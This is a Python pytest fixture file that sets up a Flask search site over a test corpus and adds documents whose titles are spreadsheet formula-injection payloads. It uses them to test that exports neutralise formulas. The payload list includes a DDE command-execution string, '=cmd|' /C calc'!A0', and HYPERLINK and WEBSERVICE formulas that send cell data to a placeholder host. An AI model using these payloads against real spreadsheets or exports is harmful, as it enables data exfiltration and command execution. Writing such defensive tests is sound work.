"""The site over a real index of the invented corpus, with hostile titles in it, saved searches and arrivals."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from corpus_kit import Made, make, new_store
from flask.testing import FlaskClient
from lxml import html
from papers_kit import corpus

from gongwen.saved import NAME, SavedSearches
from gongwen.settings import Settings
from gongwen.store import Store
from index.sync import Index, open_index
from web.app import create_app

PAYLOADS = (
    '=HYPERLINK("http://x/?"&A1,"附件")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "=cmd|' /C calc'!A0",
    "＋1", "－1", "＠SUM(1)", "\0=1+1", " =1+1", "\u3000=1+1", '=WEBSERVICE("http://x")', "=1+1;", "==1", "+-=1",
    "@A1", "\n=1",
)  # fmt: skip
"""Titles that a spreadsheet may take for formulas (reliability.md §5 no. 60)."""


@dataclass
class Comforts:
    client: FlaskClient
    store: Store
    index: Index
    saved: SavedSearches
    made: list[Made]

    def token(self) -> str:
        page = html.fromstring(self.client.get("/search?q=科普").get_data(as_text=True))
        return str(page.xpath("//input[@name='form_token']/@value")[0])

    def post(self, address: str, **fields: str):
        return self.client.post(address, data={"form_token": self.token()} | fields)


def hostile() -> list[Made]:
    return [
        make(f"工作表{at}.txt", f"⟦title|恶意标题{at}{{}}⟧\n⟦issuers/0|表格单位⟧", extra={"title": payload})
        for at, payload in enumerate(PAYLOADS)
    ]


def site(folder: Path, made: list[Made], arrivals: dict[str, str] | None = None) -> Comforts:
    settings = Settings(corpus=folder, network_disk=True)
    store = new_store(folder, made)
    index = open_index(settings)
    saved = SavedSearches(folder / NAME)
    known = arrivals if arrivals is not None else {}
    app = create_app(settings, papers=store, finder=index, aids=index, saved=saved, came=lambda: known)
    return Comforts(app.test_client(), store, index, saved, made)


@pytest.fixture(scope="session")
def comforts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Comforts]:
    """Read-only for the tests."""
    made = site(tmp_path_factory.mktemp("comforts"), [*corpus(), *hostile()])
    yield made
    made.index.close()
